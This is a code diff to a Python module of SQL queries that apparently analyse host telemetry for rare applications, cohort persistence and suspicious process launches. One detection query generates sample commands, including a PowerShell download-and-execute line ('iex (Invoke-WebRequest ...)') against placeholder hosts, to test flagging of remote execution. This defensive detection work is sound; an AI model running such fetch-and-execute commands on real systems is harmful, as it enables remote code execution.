@@ -336,6 +336,10 @@ SQL = {
       LEFT JOIN shown p ON p.host = q.host AND p.app = s.app AND p.parent = s.parent AND p.location = s.location GROUP BY s.host, s.app, s.parent, s.location""",
     "dt01_novelty": f"WITH {_GATES} SELECT host, app, parent, location, gate AS category, fleet_hosts, app_hosts, pattern_hosts FROM gated WHERE gate IN ('rare_application', 'rare_launch_relationship')",
     "dt02_funnel": f"WITH {_GATES} SELECT gate, count(*) AS n FROM gated GROUP BY gate",
+    "dt02_week": "SELECT gate, CAST(sum(n) AS BIGINT) AS n FROM ("
+    + " UNION ALL ".join(f"(WITH {_GATES.replace(str(LIVE_DAY - 28), str(d - 28)).replace(str(LIVE_DAY), str(d))} SELECT gate, count(*) AS n FROM gated GROUP BY gate)" for d in range(LIVE_DAY - 6, LIVE_DAY + 1))
+    + ") GROUP BY gate",
+    "eligible_hosts": f"WITH {_TEAM}, h AS (SELECT host FROM obs GROUP BY host HAVING count(DISTINCT day) >= 7) SELECT host FROM h WHERE (SELECT count(*) FROM h) >= 40",
     "dt03_remote_execution": f"""WITH {_OBS}, x AS (SELECT event_id, host, ['powershell.exe', 'mshta.exe', 'notepad.exe', 'cmd.exe'][k % 4 + 1] AS app,
       ['x https://a.example/p', 'iex (Invoke-WebRequest HTTP://a.example)', 'start-process y', 'javascript:z http://b'][k % 7 % 4 + 1] AS command FROM obs)
       SELECT event_id, host, app, 'high' AS priority FROM x WHERE app <> 'notepad.exe' AND regexp_matches(lower(command), 'https?://')
@@ -398,8 +402,8 @@ SQL = {
     "cohort_overlaps": f"WITH {_TEAM}{_FEATURES}, {_seeds('prev', 'total')} SELECT cohorts, count(*) AS hosts FROM (SELECT host, count(*) AS cohorts FROM member GROUP BY host) GROUP BY cohorts",
     "cohort_persistence": f"""WITH {_TEAM.replace(', obs AS (', ', allobs AS (')}, obs AS (SELECT * FROM allobs WHERE day BETWEEN {LIVE_DAY - 28} AND {LIVE_DAY - 8}), later AS (SELECT * FROM allobs WHERE day BETWEEN {LIVE_DAY - 7} AND {LIVE_DAY - 1})
       {_FEATURES}, {_seeds('prev', 'total')}, seenh AS (SELECT host FROM later GROUP BY host HAVING count(DISTINCT day) >= 3), shown AS (SELECT DISTINCT host, 'app:' || app AS app FROM later)
-      SELECT first, second, count(*) AS members, count(s.host) AS observed, count(s.host) FILTER (EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.first) AND EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.second)) AS persistent
-      FROM member m LEFT JOIN seenh s ON s.host = m.host GROUP BY first, second""",
+      SELECT *, observed >= 12 AND persistent >= 0.5 * observed AS holds FROM (SELECT first, second, count(*) AS members, count(s.host) AS observed, count(s.host) FILTER (EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.first) AND EXISTS (SELECT 1 FROM shown x WHERE x.host = m.host AND x.app = m.second)) AS persistent
+      FROM member m LEFT JOIN seenh s ON s.host = m.host GROUP BY first, second)""",
     "matched_controls": f"""WITH {_OBS}, b AS (SELECT host, CAST(host AS INT) % 6 AS grp, CAST(floor(log2(count(DISTINCT app) + 1)) AS INT) AS app_bin, CAST(greatest(0, floor((count(DISTINCT day) - 7) / 7)) AS INT) AS day_bin FROM obs GROUP BY host),
       c AS (SELECT m.host, m.grp, m.app_bin, m.day_bin,
           (SELECT count(*) FROM b WHERE b.grp <> m.grp AND b.app_bin = m.app_bin AND b.day_bin = m.day_bin) AS same,
